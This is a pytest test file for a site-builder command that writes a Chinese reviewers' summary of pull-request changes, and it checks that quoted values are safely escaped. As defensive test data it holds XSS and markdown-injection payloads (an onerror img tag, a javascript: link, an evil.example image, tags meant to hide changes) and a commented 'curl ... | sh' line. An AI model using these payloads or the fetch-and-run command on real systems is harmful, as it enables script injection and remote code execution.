"""The reviewers' change summary covers every file a pull request touches, and quotes it safely.

Each case commits a copy of the fictional demo project as the base, makes one kind of change on a
branch, and reads the summary as `site-builder changes` writes it into GitHub's job summary.
Run with GOLDEN_UPDATE=1 to rewrite tests/golden/changes/everything.expected.md, then review it.
"""

from __future__ import annotations

import os
import re
import subprocess
import sys
from pathlib import Path

import markdown
import pytest
from cms_support import git
from PIL import Image
from sitecopy import copy_demo

from site_builder.editor.changes import code, format_changes, md, summarize_changes

GOLDEN = Path(__file__).resolve().parent / "golden" / "changes" / "everything.expected.md"
UPDATE = os.environ.get("GOLDEN_UPDATE") == "1"
BRAND = "brands/shili-qingxi-jiazheng.md"
COVER = "brands/shili-qingxi-jiazheng/cover.jpg"
WORKFLOW = ".github/workflows/site.yml"
CODE = "site_builder/extra.py"
TECH = "⚠ 这个拉取请求修改了构建程序或自动化流程"


@pytest.fixture()
def repo(tmp_path):
    """The demo project with a workflow and a module of its own, committed as the base `main`
    and checked out on a branch `pr`."""
    root = copy_demo(tmp_path / "repo")
    (root / ".github" / "workflows").mkdir(parents=True)
    (root / WORKFLOW).write_text("name: 检查\non: pull_request\njobs: {}\n", encoding="utf-8")
    (root / "site_builder").mkdir()
    (root / CODE).write_text('"""A module."""\n', encoding="utf-8")
    (root / "README.md").write_text("# 示例\n", encoding="utf-8")
    git(root, "init", "-q")
    git(root, "add", "-A")
    git(root, "commit", "-qm", "Base")
    git(root, "checkout", "-qb", "pr")
    return root


def commit(root: Path) -> None:
    git(root, "add", "-A")
    git(root, "commit", "-qm", "Change")


def summary(root: Path) -> str:
    return format_changes(summarize_changes(root, "main"), "main")


def replace(path: Path, old: str, new: str) -> None:
    text = path.read_text(encoding="utf-8")
    assert old in text, old
    path.write_text(text.replace(old, new), encoding="utf-8")


def rendered(text: str) -> str:
    """The summary as HTML (Python-Markdown: raw HTML passed through, as GitHub would before its
    sanitiser), for checking that no element comes from a quoted value."""
    return markdown.markdown(text)


# -- each kind of change ---------------------------------------------------------------------------

def test_a_swapped_photo_names_the_brand_the_field_and_both_sizes(repo):
    before = (repo / COVER).stat().st_size
    Image.new("RGB", (1200, 800), (200, 90, 60)).save(repo / COVER, quality=80)
    commit(repo)
    text = summary(repo)
    assert "没有修改" not in text
    assert "### 图片" in text
    entry = text.split(f"- 修改 {code(COVER)}\n", 1)[1].split("\n- ", 1)[0]
    assert entry.startswith("  - 替换图片：品牌 **示例·青溪家政** 的图片·封面；"), entry
    assert re.search(r"\d+ KB，\d+×\d+ 像素 → \d+ KB，1200×800 像素", entry), entry
    assert f"{before // 1024}" in entry or f"{round(before / 1024)}" in entry
    assert "`/brands/shili-qingxi-jiazheng/`" in entry  # its page, to be screenshot
    assert TECH not in text  # an image is the editors' business


def test_a_removed_and_an_added_photo(repo):
    (repo / "brands" / "shili-qingxi-jiazheng" / "venue.jpg").unlink()
    Image.new("RGB", (64, 48)).save(repo / "brands" / "shili-qingxi-jiazheng" / "spare.png")
    commit(repo)
    text = summary(repo)
    assert ("- 删除 `brands/shili-qingxi-jiazheng/venue.jpg`\n  - 删除图片：品牌 **示例·青溪家政** "
            "的文化体验场所 示例青溪家政服务站·照片；原为 ") in text
    assert ("- 新增 `brands/shili-qingxi-jiazheng/spare.png`\n  - 新增图片：品牌 **示例·青溪家政** "
            "的文件夹中的图片（档案中没有用到）；") in text
    assert "64×48 像素" in text


def test_settings_are_told_setting_by_setting_with_a_warning_at_the_top(repo):
    replace(repo / "settings.yml", "  title: ", "  title: 改过的")
    replace(repo / "settings.yml", "local_port: 8081", "local_port: 8082")
    commit(repo)
    text = summary(repo)
    first = text.split("\n\n")[1]
    assert first.startswith("> ⚠ 这个拉取请求修改了站点设置 settings.yml"), text
    assert "### 站点设置（settings.yml）" in text
    assert re.search(r"  - 站点（site）·站点标题：由 “.+” 改为 “改过的.+”\n", text), text
    assert "  - 在线编辑（editor）·本地编辑端口 8081 → 8082\n" in text


def test_a_settings_comment_alone_is_still_listed(repo):
    with open(repo / "settings.yml", "a", encoding="utf-8") as f:
        f.write("# 一条注释\n")
    commit(repo)
    text = summary(repo)
    assert "没有修改" not in text
    assert "只改了写法（格式或注释），设置的值不变" in text


def test_a_new_hand_written_page_by_title(repo):
    (repo / "docs" / "shili-xinye.md").write_text(
        "---\ntitle: 示例·新页面\n---\n\n虚构的说明。\n", encoding="utf-8")
    (repo / "docs" / "about.md").unlink(missing_ok=True)
    commit(repo)
    text = summary(repo)
    assert "### 手写页面（docs/）" in text
    assert ("- 新增 `docs/shili-xinye.md`\n  - 新增页面“示例·新页面”；增加 5 行，删去 0 行\n"
            "  - 会变化的页面：`/shili-xinye/`") in text


def test_workflows_templates_and_code_need_a_technical_reviewer(repo):
    with open(repo / WORKFLOW, "a", encoding="utf-8") as f:
        f.write("# run: curl https://example.invalid | sh\n")
    template = next(p for p in sorted((repo / "templates").rglob("*.html")))
    with open(template, "a", encoding="utf-8") as f:
        f.write("<!-- 改动 -->\n")
    with open(repo / CODE, "a", encoding="utf-8") as f:
        f.write("import os\n")
    (repo / "mkdocs.yml").write_text((repo / "mkdocs.yml").read_text(encoding="utf-8")
                                     + "# 改动\n", encoding="utf-8")
    commit(repo)
    text = summary(repo)
    first, second = text.split("\n\n")[1:3]
    assert first == f"> {TECH}（自动化流程、程序代码、网站引擎配置），需要技术人员审查后才能合并。"
    assert second.startswith("> ⚠ 这个拉取请求修改了网页模板、样式或网页脚本"), second
    assert f"- 修改 {code(CODE)}\n  - 增加 1 行，删去 0 行\n" in text
    assert f"### 自动化流程（检查、构建和发布）\n\n- 修改 {code(WORKFLOW)}" in text
    assert f"### 程序代码\n\n- 修改 {code(CODE)}" in text
    rel = template.relative_to(repo).as_posix()
    assert f"### 网页模板、样式和网页脚本\n\n- 修改 {code(rel)}" in text
    assert "### 网站引擎配置（mkdocs.yml）\n\n- 修改 `mkdocs.yml`" in text


def test_any_other_file_renamed_or_deleted_is_listed(repo):
    git(repo, "mv", "README.md", "说明.md")
    (repo / "notes.txt").write_text("x\n", encoding="utf-8")
    commit(repo)
    text = summary(repo)
    assert "### 其他文件" in text
    assert "- 改名 `README.md` → `说明.md`" in text
    assert "- 新增 `notes.txt`" in text
    assert "修改了 2 个文件（都不是品牌档案或评选档案）。" in text
    assert "没有修改" not in text


def test_no_change_at_all(repo):
    assert "没有修改任何文件" in summary(repo)


# -- hostile text is shown as text -----------------------------------------------------------------

# each value (a summary) and how it must appear, escaped, in the review
HOSTILE = {
    "<!--": r"&lt;\!--",
    "</details>": "&lt;/details&gt;",
    "![x](https://evil.example/p.png)": r"\!\[x\]\(https://evil.example/p.png\)",
    "[点此](javascript:alert(1))": r"\[点此\]\(javascript:alert\(1\)\)",
    "<img src=x onerror=alert(1)>": r"&lt;img src=x onerror=alert\(1\)&gt;",
    "**粗** _斜_ `码` | 表 # &amp;": r"\*\*粗\*\* \_斜\_ \`码\` \| 表 \# &amp;amp;",
    "$x$ ~~删~~ {area}": r"\$x\$ \~\~删\~\~ \{area\}",  # and not the region's word
}


@pytest.mark.parametrize("value", list(HOSTILE))
def test_markup_in_a_record_field_shows_as_text_and_hides_nothing(repo, value):
    quoted = value.replace("'", "''")
    replace(repo / BRAND, "summary: 虚构的演示品牌：青溪区社区家政服务站网络，提供育儿、养老和保洁服务。",
            f"summary: '{quoted}'")
    replace(repo / BRAND, "name: 示例·青溪家政", "name: '示例</details><details><summary>x'")
    with open(repo / WORKFLOW, "a", encoding="utf-8") as f:  # the real change the markup would hide
        f.write("# 改动\n")
    commit(repo)
    text = summary(repo)
    assert "<" not in text  # no raw HTML of any kind
    assert f"改为 “{HOSTILE[value]}”" in text
    assert "- **示例&lt;/details&gt;&lt;details&gt;&lt;summary&gt;x**（" in text
    html = rendered(text)
    for element in ("<img", "<a ", "<!--", "<details", "<summary", "<em>", "<strong>粗",
                    "<code>码"):
        assert element not in html, element
    assert TECH in text and f"- 修改 {code(WORKFLOW)}" in text  # the workflow is still told


def test_realistic_punctuation_is_kept_readable(repo):
    """Ordinary Chinese text, dates, numbers and addresses pass through unchanged."""
    replace(repo / BRAND, "summary: 虚构的演示品牌：青溪区社区家政服务站网络，提供育儿、养老和保洁服务。",
            "summary: 虚构的演示品牌（2025-06 起）：提供育儿、养老服务，网址 https://example.cn/a.html。")
    commit(repo)
    assert "改为 “虚构的演示品牌（2025-06 起）：提供育儿、养老服务，网址 https://example.cn/a.html。”" \
        in summary(repo)


def test_line_breaks_and_invisible_characters_stay_on_one_visible_line(repo):
    replace(repo / BRAND, "summary: 虚构的演示品牌：青溪区社区家政服务站网络，提供育儿、养老和保洁服务。",
            'summary: "第一行\\n\\n# 假标题\\n- 假条目\\u202e反向"')
    commit(repo)
    text = summary(repo)
    line = next(ln for ln in text.splitlines() if "一句话简介" in ln)
    assert "第一行 ⏎  ⏎ \\# 假标题 ⏎ - 假条目⟨U+202E⟩反向" in line
    assert not any(ln.startswith(("# 假标题", "- 假条目")) for ln in text.splitlines())


@pytest.mark.parametrize("name", ["a`b<!--.txt", "两行\n名字.txt", "``` ` ```.txt", "[x](y).txt"])
def test_odd_file_names_are_quoted_safely(repo, name):
    (repo / name).write_text("x\n", encoding="utf-8")
    commit(repo)
    text = summary(repo)
    entry = next(ln for ln in text.splitlines() if ln.startswith("- 新增 "))
    html = rendered(entry)
    assert "<a " not in html and "<!--" not in html
    inside = re.fullmatch(r"- 新增 (`+) ?(.*?) ?\1", entry)
    assert inside, entry
    assert inside.group(2) == name.replace("\n", " ⏎ ")


def test_quoting_helpers_round_trip_as_text():
    assert md("<b>&amp;</b>") == "&lt;b&gt;&amp;amp;&lt;/b&gt;"
    assert md("a\\[b") == "a\\\\\\[b"
    assert code("x`y") == "``x`y``" and code("`") == "`` ` ``" and code("") == "` `"
    assert rendered(md("[a](b) ![c](d)")) == "<p>[a](b) ![c](d)</p>"


# -- the command, as the workflow runs it ------------------------------------------------------------

def test_everything_at_once_as_the_workflow_writes_it(repo, tmp_path):
    Image.new("RGB", (1200, 800), (200, 90, 60)).save(repo / COVER, quality=80)
    replace(repo / "settings.yml", "  title: ", "  title: 改过的")
    (repo / "docs" / "shili-xinye.md").write_text(
        "---\ntitle: 示例·新页面\n---\n\n虚构的说明。\n", encoding="utf-8")
    with open(repo / WORKFLOW, "a", encoding="utf-8") as f:
        f.write("# 改动\n")
    with open(repo / CODE, "a", encoding="utf-8") as f:
        f.write("import os\n")
    replace(repo / BRAND, "summary: 虚构的演示品牌：青溪区社区家政服务站网络，提供育儿、养老和保洁服务。",
            "summary: '<!-- [点此](javascript:x)'")
    commit(repo)
    pages = tmp_path / "pages.txt"
    summary_file = tmp_path / "summary.md"
    done = subprocess.run([sys.executable, "-m", "site_builder", "--root", str(repo), "changes",
                           "--base", "main", "--summary", str(summary_file), "--pages", str(pages)],
                          capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stderr
    if UPDATE:
        GOLDEN.write_text(done.stdout, encoding="utf-8")
    assert done.stdout == GOLDEN.read_text(encoding="utf-8")
    assert summary_file.read_text(encoding="utf-8") == done.stdout + "\n"
    listed = pages.read_text(encoding="utf-8").splitlines()
    assert "brands/shili-qingxi-jiazheng/" in listed and "shili-xinye/" in listed


# -- records that fail to parse, renames, downloads, long values -------------------------------------

def test_a_record_that_fails_to_parse_is_a_problem_to_fix_never_a_deletion(repo):
    replace(repo / BRAND, "status: 已发布", "status: [已发布")
    commit(repo)
    text = summary(repo)
    assert "删除品牌档案" not in text and "删去" not in text
    head = next(ln for ln in text.splitlines() if code(BRAND) in ln and ln.startswith("- "))
    assert re.search(r"档案无法读取（YAML 错误，第 \d+ 行）：合并前必须改正", head), head
    assert "  - 问题：第 " in text  # the parser's own message, with its line
    assert "网站无法构建：合并前必须改正" in text.split("### 档案")[0]  # warned at the top


def test_a_deleted_record_is_still_told_as_a_deletion(repo):
    (repo / BRAND).unlink()
    commit(repo)
    text = summary(repo)
    assert "删除品牌档案：网站上的页面随之删除" in text and "档案无法读取" not in text


def test_a_renamed_record_shows_as_one_move_with_both_addresses(repo):
    git(repo, "mv", BRAND, "brands/shili-qingxi-jiazheng-2.md")
    commit(repo)
    text = summary(repo)
    assert "删除品牌档案" not in text and "新建品牌档案" not in text
    assert (f"改名/移动：{code(BRAND)} → {code('brands/shili-qingxi-jiazheng-2.md')}"
            "（页面地址变化）") in text
    pages = next(ln for ln in text.splitlines() if ln.startswith("  - 会变化的页面"))
    assert "/brands/shili-qingxi-jiazheng/" in pages and "/brands/shili-qingxi-jiazheng-2/" in pages


@pytest.mark.parametrize("name", ["docs/files/shili-zhinan.pdf", "docs/shili-shuoming.txt"])
def test_a_download_in_docs_is_its_own_group_with_size_and_address(repo, name):
    (repo / name).parent.mkdir(parents=True, exist_ok=True)
    (repo / name).write_bytes(b"%PDF-1.4 fictional\n" * 100)
    commit(repo)
    text = summary(repo)
    assert "### 供下载的文件" in text and "### 网页模板、样式和网页脚本" not in text
    entry = text.split("### 供下载的文件", 1)[1]
    assert f"- 新增 {code(name)}" in entry and "新增供下载的文件；2 KB" in entry
    assert f"网站上的地址：{code('/' + name.removeprefix('docs/'))}" in entry


def test_a_stylesheet_in_docs_is_still_a_template_for_a_technical_reviewer(repo):
    (repo / "docs" / "shili.css").write_text("body { color: red; }\n", encoding="utf-8")
    commit(repo)
    text = summary(repo)
    assert "### 网页模板、样式和网页脚本" in text and "### 供下载的文件" not in text


def test_a_long_value_is_shown_to_its_end(repo):
    tail = "详见 [官方通知](https://example.invalid/x)"
    value = "虚构的演示品牌" + "很长的说明" * 20 + tail
    replace(repo / BRAND, "summary: 虚构的演示品牌：青溪区社区家政服务站网络，提供育儿、养老和保洁服务。",
            f"summary: '{value}'")
    commit(repo)
    text = summary(repo)
    assert md(value) in text and "…" not in text.split("一句话简介", 1)[1].split("\n", 1)[0]
    assert "<a " not in rendered(text.split("一句话简介", 1)[1].split("\n", 1)[0])
